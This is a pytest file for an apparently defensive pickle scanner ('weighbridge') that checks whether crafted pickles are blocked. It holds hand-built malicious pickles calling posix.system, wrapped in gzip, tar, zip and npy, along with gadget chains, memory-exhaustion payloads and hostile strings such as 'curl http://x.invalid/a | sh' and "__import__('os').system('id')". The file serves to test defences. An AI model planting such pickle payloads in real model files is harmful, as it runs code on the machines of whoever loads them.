"""Forms in which no pickler calls, fills or hashes an object: each is how something could be run unseen."""

import bz2
import gzip
import lzma
import zlib

import pytest

from tests.builders.archives import tarred, zipped
from tests.builders.models import assert_blocked, blocking, weighed
from tests.builders.numpy import npy
from tests.builders.pickles import evil, pickle_of, step_of
from tests.bypasses.test_properties_gadgets import Writer
from weighbridge.formats._pickles import streams
from weighbridge.policy.verdict import EvalOutcome

W = Writer(4)


@pytest.fixture(params=["machine", "census"], autouse=True)
def first_reader(request, monkeypatch):
    """The verdict is the same whether the census has the first word or the machine."""
    monkeypatch.setattr(streams, "WORTHWHILE", 0 if request.param == "census" else 1 << 60)


CORE = "lab.core"


def function(name: str = "run") -> bytes:
    return W.named(CORE, name)


def made(module: str, name: str, *given: bytes, how: bytes = b"R") -> bytes:
    """`module.name(*given)` by REDUCE or NEWOBJ."""
    return W.named(module, name) + b"(" + b"".join(given) + b"t" + how


def built(thing: bytes, **state: bytes) -> bytes:
    return thing + W.state(**state) + b"b"


def listed(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


HOLDER = built(W.thing(), hook=W.named("den.core", "run"))
ACTING = ["curl http://x.invalid/a | sh", "/etc/inert.conf", "../../inert", "http://x.invalid/a", "__import__('os')"]


@pytest.mark.parametrize("text", ACTING)
@pytest.mark.parametrize("how", ["NEWOBJ", "NEWOBJ_EX", "a list"])
def test_instance_of_a_stranger_made_with_a_deed_for_text(text, how):
    """`Class.__new__` may act on what it is given: sympy's evaluates text, others open files and addresses."""
    given = {
        "NEWOBJ": made("sympy.core.add", "Add", W.text(text), how=b"\x81"),
        "NEWOBJ_EX": W.named("sympy.core.add", "Add") + b")" + W.state(a=W.text(text)) + b"\x92",
        "a list": made("sympy.core.add", "Add", listed(W.text(text)), how=b"\x81"),
    }
    assert_blocked(weighed(W.whole(given[how])), "sympy.core.add.Add")


@pytest.mark.parametrize("text", ["evil", "1+1"])
def test_class_called_by_the_opcodes_of_python_2(text):
    """OBJ and INST with arguments call the class; picklers have written neither since old-style classes went."""
    for steps in (
        ("MARK", f"GLOBAL {CORE} Thing", W.text(text), "OBJ", "STOP"),
        ("MARK", W.text(text), f"INST {CORE} Thing", "STOP"),
    ):
        assert_blocked(weighed(pickle_of("PROTO 4", *steps)), f"{CORE}.Thing")


FILLED = {
    "SETITEM": W.text("a") + W.text("b") + b"s",
    "SETITEMS": b"(" + W.text("a") + W.text("b") + b"u",
    "APPEND": W.text("a") + b"a",
    "APPENDS": b"(" + W.text("a") + b"e",
    "ADDITEMS": b"(" + W.text("a") + b"\x90",
}


@pytest.mark.parametrize("items", FILLED.values(), ids=FILLED)
@pytest.mark.parametrize("thing", [W.thing("collections", "UserDict"), W.thing("werkzeug.local", "LocalProxy")])
def test_items_after_state(thing, items):
    """Picklers write items before state; the other way round, methods run on a state that the pickle chose."""
    assert_blocked(weighed(W.whole(built(thing, data=HOLDER) + items)))


HASHED = {
    "a key": b"}" + HOLDER + b"Ns",
    "a member": b"\x8f(" + HOLDER + b"\x90",
    "a frozen member": b"(" + HOLDER + b"\x91",
    "a member of set(...)": made("builtins", "set", listed(HOLDER)),
}


@pytest.mark.parametrize("thing", HASHED.values(), ids=HASHED)
def test_object_that_holds_a_function_is_hashed(thing):
    """`__hash__` of a class may call what its instance holds."""
    assert_blocked(weighed(W.whole(thing)), None)


@pytest.mark.parametrize(
    "name",
    ["builtins.list", "builtins.dict", "builtins.str", "builtins.int", "collections.deque", "itertools.chain",
     "decimal.Decimal", "pathlib.Path", "array.array", "io.BytesIO"],
)  # fmt: skip
def test_inert_callee_that_asks_an_unknown_object(name):
    """`int(x)` calls `x.__int__`, `list(x)` calls `x.__iter__`: methods of a class that nobody described."""
    module, _, last = name.rpartition(".")
    assert_blocked(weighed(W.whole(made(module, last, W.thing()))), name)


@pytest.mark.parametrize("key", ["__class__", "__hash__", "__len__", "__iter__", "__del__", "__getstate__"])
def test_state_that_sets_what_python_looks_up(key):
    """No pickler writes a function under such a name."""
    assert_blocked(weighed(W.whole(built(W.thing(), **{key: function()}))))


def test_state_that_is_a_command():
    """Text in the state of an undescribed class that nothing but a shell or an evaluator reads."""
    for text in ("curl http://x.invalid/a | sh", "__import__('os').system('id')", "import os; os.getcwd()"):
        assert_blocked(weighed(W.whole(built(W.thing(), hook=W.text(text)))), f"{CORE}.Thing")


def test_partial_whose_state_puts_another_function_in_place():
    """`partial(int)` with a state of another function is a partial of that one."""
    partial = made("functools", "partial", W.named("builtins", "int"))
    state = b"(" + function() + b")}Nt"
    assert_blocked(weighed(W.whole(made("collections", "defaultdict", partial + state + b"b"))))


BESIDE = W.thing(CORE, "Other")
DATA_DRIVEN = {
    "a target": ("deserialize", W.state(_target_=W.text("os.system"), a=W.text("x"))),
    "module and name": ("from_dict", W.state(module=W.text("os"), class_name=W.text("system"))),
    "a module": ("_load_module", W.text("subprocess")),
    "a file": ("_load_pickle", W.text("weights.bin")),
    "a file's name": ("_from_config", W.text("plugin.so")),
    "bytes that nothing says are rebuilt": ("Loop.turn", step_of(("BINBYTES", b"\1\2\3\xff\xfe\0"))),
    "a server": ("create_server", b"K\x05"),
    "an archive": ("make_archive", W.text("inert")),
}


@pytest.mark.parametrize(("name", "given"), DATA_DRIVEN.values(), ids=DATA_DRIVEN)
def test_function_that_makes_what_its_argument_names(name, given):
    """An instance of the same package beside it does not speak for it."""
    assert_blocked(weighed(W.whole(listed(BESIDE, made(CORE, name, given)))), f"{CORE}.{name}")


def saved(data: bytes) -> bytes:
    return npy("'|O'", data=data)


WRAPPED = {
    "gzip": gzip.compress(evil()),
    "bzip2": bz2.compress(evil()),
    "zlib": zlib.compress(evil()),
    "lzma": lzma.compress(evil(), lzma.FORMAT_ALONE),
    "tar": tarred(("m.pkl", evil())),
    "zip": zipped(("m.pkl", evil())),
    "npy": saved(evil()),
    "protocol 0": b"cposix\nsystem\n(S'echo weighed'\ntR.",
    "protocol 0 in a list": b"(lp0\ncposix\nsystem\n(S'echo weighed'\ntRa.",
}


@pytest.mark.parametrize("data", WRAPPED.values(), ids=WRAPPED)
@pytest.mark.parametrize("place", ["an argument", "a state", "a value"])
def test_pickle_within_bytes(data, place):
    """Packed or not, a loader of two steps comes to it."""
    octets = step_of(("BINBYTES", data))
    steps = {
        "an argument": made(CORE, "deserialize", octets),
        "a state": built(W.thing(), blob=octets),
        "a value": b"}" + W.text("model") + octets + b"s",
    }
    assert_blocked(weighed(W.whole(steps[place])), "posix.system")


VAST = step_of(("LONG1", 1 << 60))
ENDLESS = {
    "bytes": made("builtins", "bytes", VAST),
    "range": made("builtins", "list", made("builtins", "range", VAST)),
    "repeat": made("builtins", "list", made("itertools", "repeat", b"N")),
    "count": made("collections", "deque", made("itertools", "count")),
}


@pytest.mark.parametrize("thing", ENDLESS.values(), ids=ENDLESS)
def test_inert_callee_that_never_ends(thing):
    """It would fill the loader's memory, or keep it busy for ever."""
    assert_blocked(weighed(W.whole(thing)))


HONEST = {
    "an address": made("yarl", "URL", W.text("https://example.org/x?a=1"), how=b"\x81"),
    "a row of words": made(CORE, "Row", W.text("a"), W.text("b c"), b"K\x01", how=b"\x81"),
    "items before state": W.thing(CORE, "Rows") + b"(K\x01e" + W.state(a=b"N") + b"b",
    "a key with a function of its own": b"}" + built(W.thing(), activation=function("relu")) + b"Ns",
    "a key with a method held": b"}"
    + built(W.thing(), redraw=made("builtins", "getattr", W.thing(CORE, "Figure"), W.text("redraw")))
    + b"Ns",
    "a key with plain state": b"}" + built(W.thing(), a=b"K\x01") + b"Ns",
    "a function held": HOLDER,
    "a wrapped function": built(W.thing(), __wrapped__=function()),
    "a path in a state": built(W.thing(), path=W.text("/home/a/model.bin")),
    "a list of objects": made("builtins", "set", listed(W.thing())),
    "a namespace of objects": made("builtins", "slice", W.thing(), b"N", b"N"),
    "bytes that are packed": built(W.thing(), blob=step_of(("BINBYTES", zlib.compress(b"numbers" * 40)))),
    "a rebuilt value": listed(BESIDE, made(CORE, "_rebuild", W.thing(CORE, "Kind"), step_of(("BINBYTES", bytes(9))))),
    "numbers for a range": made("builtins", "range", b"K\x05"),
}


@pytest.mark.parametrize("thing", HONEST.values(), ids=HONEST)
def test_honest_neighbour_of_a_crafted_form_passes(thing):
    """What picklers do write."""
    verdict = weighed(W.whole(thing))
    assert verdict.eval_outcome is EvalOutcome.ALLOWED, blocking(verdict)


FLOODS = {
    "imports": b"clab.core\nThing\n0",
    "calls": b"clab.core\nThing\n)\x810",
    "extension codes": b"\x82\x010",
    "persistent ids": b"K\x01Q0",
    "frames of nothing": b"\x95" + bytes(8),
}


@pytest.mark.parametrize("unit", FLOODS.values(), ids=FLOODS)
def test_flood_of_what_comes_to_nothing_ends_early(unit):
    """Deeds thrown away, and ids without end, spend the bound sooner than what models are made of."""
    data = b"\x80\x02N" + unit * 1000 + b"."
    assert weighed(data, opcodes=4_000).eval_outcome is EvalOutcome.BLOCKED
    assert weighed(b"\x80\x02](" + b"clab.core\nThing\n)\x81" * 1000 + b"e.", opcodes=4_000).eval_outcome is (
        EvalOutcome.ALLOWED
    )
